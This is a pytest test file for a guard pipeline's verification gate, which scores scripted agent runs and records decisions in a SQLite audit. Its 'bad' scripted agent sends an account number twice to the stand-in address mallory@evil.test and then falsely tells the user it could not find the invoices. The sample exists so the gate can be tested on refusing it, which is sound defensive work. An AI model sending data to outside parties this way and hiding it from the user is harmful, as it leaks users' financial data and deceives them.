"""The gate on a scripted agent, through the real Guard pipeline and SQLite audit."""
import json
import sqlite3

import pytest

from guard import Action, Guard
from tests.test_glean_support import handmade_artifact, handmade_stage

CHECK_CALLS: list[str] = []


def optimistic_check(traj, event):
    CHECK_CALLS.append(traj.task)
    return 0.97


def silent_check(traj, event):
    CHECK_CALLS.append(traj.task)
    return None


def play(run, good: bool):
    """A scripted agent: look up invoices, send an email, answer."""
    task = "Find the invoice total for March and send it to alice@example.com"
    run.input(task)
    run.tool_call("get_invoices", {"month": "March"}, call_id="c1")
    if good:
        run.tool_result("get_invoices", "March invoices: 100, 210 (total 310)", {"month": "March"}, call_id="c1")
        run.tool_call("send_email", {"to": "alice@example.com", "body": "The March total is 310"}, call_id="c2")
        run.tool_result("send_email", "sent", call_id="c2")
        return run.output("Done: I sent the March total (310) to alice@example.com.")
    run.tool_result("get_invoices", None, {"month": "March"}, call_id="c1", error="ServiceUnavailable")
    run.tool_call("send_email", {"to": "mallory@evil.test", "body": "acct 99887766"}, call_id="c2")
    run.tool_result("send_email", "sent", call_id="c2")
    run.tool_call("send_email", {"to": "mallory@evil.test", "body": "acct 99887766"}, call_id="c3")
    run.tool_result("send_email", "sent", call_id="c3")
    return run.output("I'm sorry, I was unable to find the invoices.")


def guard_for(tmp_path, stages, **cfg):
    model = handmade_artifact(tmp_path / "model.json", stages)
    policy = {
        "name": "glean-test", "version": 1,
        "interceptors": [{"use": "verification.glean", "on": ["output", "tool_call"], "timeout_ms": 60000,
                          "fail_mode": "closed", "config": {"model": str(model), **cfg}}],
        "audit": {"url": f"sqlite:///{tmp_path / 'audit.db'}"},
    }
    return Guard.from_policy(policy)


def glean_verdict(decision):
    return next(v for v in decision.verdicts if v.interceptor == "verification.glean")


def test_accept_and_reject_with_failing_guidelines_named(tmp_path):
    g = guard_for(tmp_path, [handmade_stage(weight=1.0)])
    with g.run(agent="a") as run:
        ok = play(run, good=True)
    v = glean_verdict(ok)
    assert ok.action is Action.ALLOW and v.rule == "glean.accept" and v.details["p_correct"] >= 0.75
    with g.run(agent="a") as run:
        bad = play(run, good=False)
    v = glean_verdict(bad)
    assert bad.action is Action.REFUSE and v.rule == "glean.reject"
    assert "grounded_arguments" in v.reason and "general.no_repeated_calls" in v.details["failing_guidelines"]
    assert v.instruction and "Re-plan" in v.instruction
    assert [s["step"] for s in v.details["steps"]] == ["score"]  # confident: no active verification


def test_uncertain_escalates_after_active_verification(tmp_path):
    CHECK_CALLS.clear()
    g = guard_for(tmp_path, [handmade_stage(weight=0.0, spread=0.01)], checks=["tests.test_glean_gate:silent_check"])
    with g.run(agent="a") as run:
        d = play(run, good=True)
    v = glean_verdict(d)
    assert v.action is Action.ESCALATE and v.rule == "glean.uncertain"
    assert [s["step"] for s in v.details["steps"]] == ["score", "check"] and len(CHECK_CALLS) == 1
    assert v.details["entropy"] > 0.95


def test_differential_check_resolves_uncertainty(tmp_path):
    CHECK_CALLS.clear()
    g = guard_for(tmp_path, [handmade_stage(weight=0.0, spread=0.01)], checks=["tests.test_glean_gate:optimistic_check"])
    with g.run(agent="a") as run:
        d = play(run, good=True)
    v = glean_verdict(d)
    assert d.action is Action.ALLOW and v.rule == "glean.accept"
    assert v.details["steps"][-1]["check"] == "tests.test_glean_gate:optimistic_check"
    assert v.details["steps"][-1]["p"] > 0.9


def test_active_verification_expands_coverage_only_when_uncertain(tmp_path):
    CHECK_CALLS.clear()
    uncertain0 = handmade_stage("general", weight=0.0, spread=0.01)
    deep1 = handmade_stage("general,general-deep", weight=1.0)
    g = guard_for(tmp_path, [uncertain0, deep1], checks=["tests.test_glean_gate:optimistic_check"])
    with g.run(agent="a") as run:
        d = play(run, good=True)
    steps = glean_verdict(d).details["steps"]
    assert [s["step"] for s in steps] == ["score", "expand"]
    assert steps[1]["packs"] == ["general", "general-deep"] and steps[1]["outcome"] == "accept"
    assert CHECK_CALLS == []  # resolved by expansion: the check was not needed

    confident0 = handmade_stage("general", weight=1.0)
    g2 = guard_for(tmp_path, [confident0, deep1], checks=["tests.test_glean_gate:optimistic_check"])
    with g2.run(agent="a") as run:
        d2 = play(run, good=True)
    assert [s["step"] for s in glean_verdict(d2).details["steps"]] == ["score"]


def test_tool_calls_are_gated_only_when_configured_and_details_reach_the_audit(tmp_path):
    g = guard_for(tmp_path, [handmade_stage(weight=1.0)], tools=["send_*"])
    with g.run(agent="a") as run:
        run.input("Find the invoice total for March and send it to alice@example.com")
        look = run.tool_call("get_invoices", {"month": "March"})
        send = run.tool_call("send_email", {"to": "alice@example.com", "body": "x"})
    assert glean_verdict(look).details == {"glean": "tool not gated"}
    assert "p_correct" in glean_verdict(send).details
    g.close() if hasattr(g, "close") else None
    con = sqlite3.connect(tmp_path / "audit.db")
    blob = "\n".join(str(r) for r in con.execute("select * from sqlite_master where type='table'"))
    tables = [r[0] for r in con.execute("select name from sqlite_master where type='table'")]
    dump = "\n".join(str(row) for t in tables for row in con.execute(f"select * from {t}"))
    # both calls' glean details reached the trail: the ungated lookup and the scored send
    assert '{"glean":"tool not gated"}' in dump and '"p_correct":' in dump and '"outcome":"accept"' in dump, blob


def test_missing_model_fails_at_policy_load(tmp_path):
    with pytest.raises(Exception, match="does not exist"):
        Guard.from_policy({"name": "x", "version": 1, "interceptors": [
            {"use": "verification.glean", "on": ["output"], "config": {"model": str(tmp_path / "none.json")}}]})


def pessimistic_check(traj, event):
    CHECK_CALLS.append("pessimistic")
    return 0.03


def broken_check(traj, event):
    raise RuntimeError("source unreachable")


def test_high_entropy_counts_as_uncertain_even_above_accept(tmp_path):
    stage = handmade_stage(weight=0.0, alpha=1.5, spread=0.01)  # p ≈ 0.82, entropy ≈ 0.68 bits
    for max_entropy, rule in ((0.95, "glean.accept"), (0.5, "glean.uncertain")):
        g = guard_for(tmp_path, [stage], max_entropy=max_entropy)
        with g.run(agent="a") as run:
            v = glean_verdict(play(run, good=True))
        assert v.details["p_correct"] >= 0.75 and 0.5 < v.details["entropy"] < 0.95
        assert v.rule == rule


def test_without_active_verification_no_check_runs(tmp_path):
    CHECK_CALLS.clear()
    g = guard_for(tmp_path, [handmade_stage(weight=0.0, spread=0.01)], active=False, checks=["tests.test_glean_gate:optimistic_check"])
    with g.run(agent="a") as run:
        d = play(run, good=True)
    v = glean_verdict(d)
    assert v.action is Action.ESCALATE and CHECK_CALLS == [] and [s["step"] for s in v.details["steps"]] == ["score"]


def test_checks_stop_at_the_first_decisive_one_and_fold_as_weighted_evidence(tmp_path):
    import math

    CHECK_CALLS.clear()
    g = guard_for(tmp_path, [handmade_stage(weight=0.0, spread=0.01)], check_weight=0.5,
                  checks=["tests.test_glean_gate:optimistic_check", "tests.test_glean_gate:pessimistic_check"])
    with g.run(agent="a") as run:
        d = play(run, good=True)
    steps = glean_verdict(d).details["steps"]
    assert [s["step"] for s in steps] == ["score", "check"] and "pessimistic" not in CHECK_CALLS
    p0 = steps[0]["p"]
    expected = 1 / (1 + math.exp(-(math.log(p0 / (1 - p0)) + 0.5 * math.log(0.97 / 0.03))))
    assert steps[1]["p"] == pytest.approx(expected, abs=1e-3) and steps[1]["p"] < 0.97
    assert d.action is Action.ALLOW


def test_a_broken_check_is_recorded_and_does_not_fail_the_gate(tmp_path):
    g = guard_for(tmp_path, [handmade_stage(weight=0.0, spread=0.01)], checks=["tests.test_glean_gate:broken_check"])
    with g.run(agent="a") as run:
        d = play(run, good=True)
    v = glean_verdict(d)
    assert v.action is Action.ESCALATE and v.rule == "glean.uncertain" and v.error is None
    assert v.details["steps"][-1] == {"step": "check", "check": "tests.test_glean_gate:broken_check",
                                      "error": 'RuntimeError: "source unreachable"'}  # its message is content: quoted


def test_only_as_many_failing_guidelines_as_configured_are_named(tmp_path):
    g = guard_for(tmp_path, [handmade_stage(weight=1.0)], explain=1)
    with g.run(agent="a") as run:
        d = play(run, good=False)
    v = glean_verdict(d)
    assert d.action is Action.REFUSE and len(v.details["failing_guidelines"]) == 1
    assert v.reason.count(",") == 0  # one name in the reason


def nan_check(traj, event):
    return float("nan")


def test_checks_that_return_no_probability_are_errors_not_evidence(tmp_path):
    from detectors.verification.checks import CheckResult, normalise

    assert normalise(True).q == 0.8 and normalise(False).q == 0.2 and normalise(None) is None
    assert normalise(1).q == normalise(1.0).q == 0.98 and normalise(0).q == 0.02 and normalise(CheckResult(0.5)).q == 0.5
    for bad in (float("nan"), float("inf"), -0.1, 80, "0.9", {"q": 0.9}, CheckResult(float("nan")), CheckResult(True)):
        with pytest.raises(ValueError, match="must be a probability in \\[0, 1\\]"):
            normalise(bad)
    g = guard_for(tmp_path, [handmade_stage(weight=0.0, spread=0.01)], checks=["tests.test_glean_gate:nan_check"])
    with g.run(agent="a") as run:
        d = play(run, good=True)
    v = glean_verdict(d)
    assert v.action is Action.ESCALATE and v.details["p_correct"] == v.details["steps"][0]["p"]  # p untouched
    assert v.details["steps"][-1]["error"] == "ValueError: a check's result must be a probability in [0, 1], got nan"


def test_a_judge_failure_in_active_verification_keeps_the_stage_0_score_in_details(tmp_path):
    from detectors.verification.guidelines import load_pack

    s1 = handmade_stage("general,general-deep", weight=1.0)  # stage 1 fitted with the judge, which is unreachable now
    s1.features.raters.update({f"general-deep.{g.id}": g.raters() for g in load_pack("general-deep").guidelines})
    g = guard_for(tmp_path, [handmade_stage(weight=0.0, spread=0.01), s1],
                  judge={"base_url": "http://127.0.0.1:9/v1", "model": "j", "api_key_env": None, "timeout_s": 1})
    with g.run(agent="a") as run:
        d = play(run, good=True)
    v = glean_verdict(d)
    assert d.action is Action.REFUSE and v.rule == "fail_mode:closed" and "JudgeError" in v.error
    steps = v.details["steps"]
    assert [s["step"] for s in steps] == ["score", "expand"] and steps[0]["outcome"] == "uncertain" and "p" in steps[0]
    assert "JudgeError" in steps[1]["error"] and v.details["p_correct"] == steps[0]["p"]


def test_policy_validate_reports_a_missing_model_file(tmp_path, capsys):
    from guard.cli.main import main

    pol = tmp_path / "p.yaml"
    pol.write_text(f"name: g\nversion: 1\ninterceptors:\n  - use: verification.glean\n    on: [output]\n"
                   f"    config: {{model: {tmp_path / 'none.json'}}}\n")
    assert main(["policy", "validate", str(pol)]) == 1
    assert "config.model (line 6): model file" in capsys.readouterr().err


def test_a_gated_tool_call_is_not_scored_as_a_run_without_an_answer(tmp_path):
    """Mid-run there is no answer yet: the answer guidelines must not count as failed (a grounded
    send was once refused on `answer_given` / `answer_on_topic`)."""
    from detectors.verification.guidelines import load_packs

    answer_only = {f"{p.name}.{g.id}" for p in load_packs("general") for g in p.guidelines
                   if g.applies.step_kinds and set(g.applies.step_kinds) <= {"answer"}}
    assert answer_only
    p_send = []
    for answer_mean in (0.0, 2.0):  # fitted on runs whose answers rated well (mean 2) or neutral (0)
        stage = handmade_stage(weight=1.0)
        stage.mean = [answer_mean if k in answer_only else 0.0 for k in stage.features.guidelines]
        (tmp_path / str(answer_mean)).mkdir()
        g = guard_for(tmp_path / str(answer_mean), [stage], tools=["send_*"])
        with g.run(agent="a") as run:
            run.input("Find the invoice total for March and send it to alice@example.com")
            run.tool_call("get_invoices", {"month": "March"}, call_id="c1")
            run.tool_result("get_invoices", "March invoices: 100, 210 (total 310)", {"month": "March"}, call_id="c1")
            v = glean_verdict(run.tool_call("send_email", {"to": "alice@example.com", "body": "The March total is 310"}))
        assert not set(v.details["failing_guidelines"]) & answer_only
        assert all(abs(v.details["contributions"].get(k, 0.0)) < 1e-9 for k in answer_only)
        p_send.append(v.details["p_correct"])
        g.close()
    assert p_send[0] == pytest.approx(p_send[1], abs=1e-6)  # the answer features' fitted level no longer matters


def test_warmup_loads_the_embedding_model_before_the_first_scored_run(tmp_path):
    g = guard_for(tmp_path, [handmade_stage("general"), handmade_stage("general,general-deep")])
    glean = next(s.interceptor for s in g.pipeline.stages if s.label == "verification.glean")
    embedder = glean.stages[1][1].raters["embedding"].embedder
    embedder._model = None  # the embedder is shared: another test may have loaded it
    embedder._cache.clear()
    assert g.warmup() == {"verification.glean": None}
    assert embedder._model is not None  # loaded at start-up, not inside the first check's timeout
    exemplar = next(gd.exemplars.aligned[0] for pk in glean.stages[1][1].packs for gd in pk.guidelines
                    if gd.exemplars and gd.exemplars.aligned)
    assert exemplar in embedder._cache  # the exemplars are encoded once, up front
    g.close()


def test_a_streamed_answer_is_scored_once_whole_and_an_earlier_refused_answer_is_no_answer(tmp_path):
    from detectors.verification.trajectory import from_events

    g = guard_for(tmp_path, [handmade_stage(weight=1.0)])
    with g.run(agent="a") as run:
        run.input("Find the invoice total for March and send it to alice@example.com")
        run.tool_call("get_invoices", {"month": "March"}, call_id="c1")
        run.tool_result("get_invoices", "March invoices: 100, 210 (total 310)", {"month": "March"}, call_id="c1")
        run.tool_call("send_email", {"to": "alice@example.com", "body": "The March total is 310"}, call_id="c2")
        run.tool_result("send_email", "sent", call_id="c2")
        chunks = [run.output(part, partial=True) for part in ("Done: I sent ", "the March total (310) ", "to alice@example.com.")]
        whole = run.output("Done: I sent the March total (310) to alice@example.com.")
        history = list(run.history)
    # a chunk alone was once scored as the whole answer (and cut the stream)
    assert all(glean_verdict(c).details == {"glean": "partial output: scored when the answer is complete"} for c in chunks)
    assert glean_verdict(whole).rule == "glean.accept"
    kinds = [s.kind for s in from_events(history).steps]
    assert kinds.count("answer") == 1 and kinds[-1] == "answer"
    # a refused answer followed by a second one: only the last is the answer
    from guard.events import OutputEvent
    twice = from_events([*history, OutputEvent(content="Sorry, let me correct that: 310 in total.")])
    assert [s.kind for s in twice.steps][-2:] == ["plan", "answer"]
    # a refused answer and then more tool calls (a re-plan): the run has no answer yet, and a gated
    # call was scored with the refused text as the run's answer
    from guard.events import ToolCallEvent
    replanned = from_events([*history, ToolCallEvent(tool="get_invoices", arguments={"month": "April"}, call_id="c3")])
    assert "answer" not in [s.kind for s in replanned.steps]


def hanging_check(traj, event):
    import time

    time.sleep(30)


def exiting_check(traj, event):
    raise SystemExit(3)


def quoting_check(traj, event):
    raise ValueError(f"could not verify: {traj.task}")


def detail_check(traj, event):
    from detectors.verification.checks import CheckResult

    return CheckResult(0.5, {"answer": event.content})


def numpy_check(traj, event):
    import numpy as np

    return np.bool_(True)


def decimal_check(traj, event):
    from decimal import Decimal

    return Decimal("0.9")


def test_a_hung_check_times_out_alone_and_keeps_the_record(tmp_path):
    import time

    g = guard_for(tmp_path, [handmade_stage(weight=0.0, spread=0.01)], checks=["tests.test_glean_gate:hanging_check"],
                  check_timeout_ms=200)
    t0 = time.perf_counter()
    with g.run(agent="a") as run:
        d = play(run, good=True)
    v = glean_verdict(d)
    assert time.perf_counter() - t0 < 20 and v.error is None and v.rule == "glean.uncertain"
    assert v.details["steps"][-1] == {"step": "check", "check": "tests.test_glean_gate:hanging_check",
                                      "error": "timed out after 200 ms"}


def test_a_check_that_exits_is_recorded_not_raised(tmp_path):
    g = guard_for(tmp_path, [handmade_stage(weight=0.0, spread=0.01)], checks=["tests.test_glean_gate:exiting_check"])
    with g.run(agent="a") as run:
        d = play(run, good=True)
    assert glean_verdict(d).details["steps"][-1]["error"].startswith("SystemExit")


def test_what_a_check_quotes_of_the_run_is_left_out_of_the_audit(tmp_path):
    g = guard_for(tmp_path, [handmade_stage(weight=0.0, spread=0.01)],
                  checks=["tests.test_glean_gate:quoting_check", "tests.test_glean_gate:detail_check"])
    with g.run(agent="a") as run:
        play(run, good=True)
    g.flush()
    stored = json.dumps([r.details for r in g.audit.records()])
    assert "invoice total for March" not in stored and "I sent the March total" not in stored
    assert "quoted content not captured" in stored


@pytest.mark.parametrize("check, q", [("numpy_check", 0.8), ("decimal_check", 0.9)])
def test_numpy_bools_and_decimals_are_evidence(tmp_path, check, q):
    g = guard_for(tmp_path, [handmade_stage(weight=0.0, spread=0.01)], checks=[f"tests.test_glean_gate:{check}"])
    with g.run(agent="a") as run:
        d = play(run, good=True)
    assert glean_verdict(d).details["steps"][-1]["q"] == q


def test_a_nan_probability_is_no_evidence():
    from detectors.verification.checks import fold

    with pytest.raises(ValueError, match="cannot fold"):
        fold(float("nan"), 0.02)


def test_models_the_gate_cannot_use_are_refused_when_loaded_and_by_policy_validate(tmp_path):
    from detectors.verification.artifact import ArtifactError, load_artifact
    from guard.errors import PolicyError
    from guard.policy import validate_policy

    good = handmade_artifact(tmp_path / "ok.json", [handmade_stage(weight=1.0)])
    data = json.loads(good.read_text())
    for name, change in (("huge", lambda st: st.update(w=[[1e308] * len(st["w"][0])] * len(st["w"]))),
                         ("extras", lambda st: st["features"].update(extras=["steps"]))):
        broken = json.loads(json.dumps(data))
        change(broken["stages"][0])
        path = tmp_path / f"{name}.json"
        path.write_text(json.dumps(broken))
        with pytest.raises(ArtifactError):
            load_artifact(path)
        policy = {"name": "p", "version": 1, "interceptors": [{"use": "verification.glean", "config": {"model": str(path)}}]}
        with pytest.raises(PolicyError, match=r"interceptors\[0\]\.config\.model"):
            validate_policy(policy)


def test_tools_to_gate_without_the_tool_call_hook_is_an_error(tmp_path):
    from guard.errors import PolicyError
    from guard.policy import validate_policy

    model = handmade_artifact(tmp_path / "ok.json", [handmade_stage(weight=1.0)])
    with pytest.raises(PolicyError, match=r"interceptors\[0\]\.config\.tools"):
        validate_policy({"name": "p", "version": 1, "interceptors": [
            {"use": "verification.glean", "on": ["output"], "config": {"model": str(model), "tools": ["send_*"]}}]})


@pytest.mark.parametrize(("ref", "said"), [
    ("mypkg_not_installed.checks:recompute_total", "ModuleNotFoundError"),
    ("json:no_such_function", "'no_such_function' is not a callable in json"),
    ("json.dumps", "must look like 'package.module:function'"),
])
def test_a_differential_check_that_cannot_be_imported_is_a_validation_error(tmp_path, ref, said):
    """The README's `checks: ["mypkg.checks:recompute_total"]` validated `ok`; building the guard then
    raised a bare ModuleNotFoundError, and `guard demo` printed a traceback."""
    from guard import Guard
    from guard.errors import PolicyError
    from guard.policy import validate_policy

    model = handmade_artifact(tmp_path / "ok.json", [handmade_stage(weight=1.0)])
    policy = {"name": "p", "version": 1, "audit": {"url": f"sqlite:///{tmp_path / 'a.db'}"}, "interceptors": [
        {"use": "verification.glean", "on": ["output"], "config": {"model": str(model), "checks": [ref]}}]}
    for build in (validate_policy, Guard.from_policy):
        with pytest.raises(PolicyError) as exc:
            build(policy)
        assert "interceptors[0].config.checks[0]" in str(exc.value) and said in str(exc.value)


def test_a_guideline_for_the_output_hook_is_answer_only_on_a_gated_call():
    from types import SimpleNamespace

    from detectors.verification.interceptor import _answer_only_columns

    def guideline(gid, hooks=(), kinds=()):  # noqa: ANN001, ANN202
        return SimpleNamespace(id=gid, applies=SimpleNamespace(hooks=list(hooks), step_kinds=list(kinds)))

    pack = SimpleNamespace(name="p", guidelines=[guideline("a", hooks=["output"]), guideline("b", kinds=["answer"]),
                                                 guideline("c", hooks=["tool_call"])])
    stage = SimpleNamespace(features=SimpleNamespace(guidelines=["p.a", "p.b", "p.c"]))
    assert _answer_only_columns(stage, [pack]) == [0, 1]


def test_policy_validate_makes_the_checks_the_gate_makes_when_built(tmp_path):
    """`guard policy validate` said ok for a model fitted on another wording of a built-in pack,
    or with other raters, which the gate then refused to build with."""
    from detectors.verification.guidelines import pack_hash, parse_pack
    from guard.errors import PolicyError
    from guard.policy import validate_policy

    data = json.loads(handmade_artifact(tmp_path / "ok.json", [handmade_stage(weight=1.0)]).read_text())
    stale = json.loads(json.dumps(data))
    st = stale["stages"][0]
    st["pack_defs"][0]["definition"]["description"] = "an older wording"
    st["pack_hash"] = pack_hash([parse_pack(r["definition"]) for r in st["pack_defs"]])
    other_raters = json.loads(json.dumps(data))
    key = next(iter(other_raters["stages"][0]["features"]["raters"]))
    other_raters["stages"][0]["features"]["raters"][key] = ["judge"]
    no_record = json.loads(json.dumps(data))
    no_record["stages"][0]["features"]["raters"] = {}  # the check was skipped for a guideline with no record
    for name, broken, why in (("stale", stale, "differ"), ("raters", other_raters, "rated by"),
                              ("unrecorded", no_record, "no entry")):
        path = tmp_path / f"{name}.json"
        path.write_text(json.dumps(broken))
        policy = {"name": "p", "version": 1, "interceptors": [{"use": "verification.glean", "config": {"model": str(path)}}]}
        with pytest.raises(PolicyError, match=why):
            validate_policy(policy)
    validate_policy({"name": "p", "version": 1, "interceptors": [
        {"use": "verification.glean", "config": {"model": str(tmp_path / "ok.json")}}]})
